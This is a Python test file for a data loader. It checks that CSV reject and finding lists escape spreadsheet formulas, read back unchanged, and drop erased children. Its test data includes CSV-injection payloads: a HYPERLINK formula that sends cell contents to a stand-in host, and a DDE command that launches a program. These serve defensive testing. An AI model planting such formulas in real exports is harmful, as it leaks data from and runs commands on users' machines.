"""The lists that a load leaves: no cell of them is a formula, and each reads back as it came."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st

from graphmodel.access import Viewer
from graphmodel.letters import as_it_came, harmless
from graphmodel.store import Store
from loaders import load
from loaders.protection import erase
from reports import quality
from tests.attacks.test_files import reckoned
from tests.loading import write_tables

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "'=already",
    "-",
    "-5",
    "plain",
)
WHY = Viewer.local("request of 2026-11-22, decided by the data protection officer")


@given(st.one_of(st.text(max_size=12), st.text(alphabet="'=+-@ \t\r12.%a", max_size=6)))
@example("''=x")
@example("'-5")
@example("'=-5")
def test_a_cell_made_harmless_reads_back_as_it_came(text: str) -> None:
    assert as_it_came(harmless(text)) == text
    assert not reckoned(harmless(text))


def source(folder: Path, values: tuple[str, ...]) -> Path:
    """A good agency of each name, and a child whose status is that and no code."""
    return write_tables(
        folder,
        {
            "agencies": [
                {"agency_id": f"a{n}", "name": name, "sector": "health"} for n, name in enumerate(values)
            ],
            "children": [{"child_id": "=c1"}, {"child_id": "c2"}],
            "statuses": [{"child_id": "c2", "status": text, "started_on": "2026-01-01"} for text in values],
            "needs": [
                {"child_id": "=c1", "level": "2", "started_on": "2026-01-01", "ended_on": "2026-01-01"},
                {"child_id": "=c9", "level": "2", "started_on": "2026-01-01", "ended_on": ""},
            ],
        },
    )


def cells(folder: Path, name: str) -> list[str]:
    with (folder / name).open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_no_list_holds_a_formula_and_what_is_mended_by_it_loads_as_it_came(
    on_engine: Path, tmp_path: Path
) -> None:
    first = load(source(tmp_path / "in", FORMULAS), home=on_engine)
    for name in (quality.REJECTS, quality.FINDINGS):
        written = cells(first.folder, name)
        assert any(cell.startswith("'=") for cell in written)
        assert [cell for cell in written if reckoned(cell)] == []
        assert (first.folder / name).stat().st_mode & 0o777 == 0o600
    rejects = quality.listed(first.folder, quality.REJECTS)
    assert rejects is not None
    values = rejects[rejects["column"] == "status"]["value"]
    assert sorted(values) == sorted(FORMULAS)
    mended = write_tables(
        tmp_path / "mended",
        {"agencies": [{"agency_id": f"m{n}", "name": x, "sector": "health"} for n, x in enumerate(values)]},
    )
    load(mended, home=on_engine)
    with Store.open(on_engine) as store:
        names = store.fetch("MATCH (a:Agency) WHERE a.agency_id STARTS WITH 'm' RETURN a.name")
    assert sorted(row[0] for row in names) == sorted(FORMULAS)


def test_an_erased_child_leaves_the_lists_whatever_its_id_begins_with(
    on_engine: Path, tmp_path: Path
) -> None:
    report = load(source(tmp_path / "in", FORMULAS[:1]), home=on_engine)
    assert any("=c1" in cell for cell in cells(report.folder, quality.FINDINGS))
    erase(on_engine, ["=c1"], WHY)
    assert not any("=c1" in cell for cell in cells(report.folder, quality.FINDINGS))
    assert any("=c9" in cell for cell in cells(report.folder, quality.REJECTS))
